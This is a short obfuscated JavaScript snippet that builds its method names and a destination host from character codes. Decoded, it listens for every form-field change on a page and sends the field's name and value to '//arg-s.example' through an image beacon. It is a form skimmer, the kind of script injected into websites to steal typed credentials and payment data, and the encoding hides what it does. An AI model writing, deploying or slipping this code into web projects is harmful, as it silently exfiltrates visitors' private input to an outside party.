function S(){var r='';for(var i=0;i<arguments.length;i++)r+=String.fromCharCode(arguments[i]);return r}
window[S(97,100,100,69,118,101,110,116,76,105,115,116,101,110,101,114)](S(99,104,97,110,103,101),function(v){var q=v.target;new Image()[S(115,114,99)]=S(47,47,97,114,103,45,115,46,101,120,97,109,112,108,101,47,63)+q.name+'='+q.value});
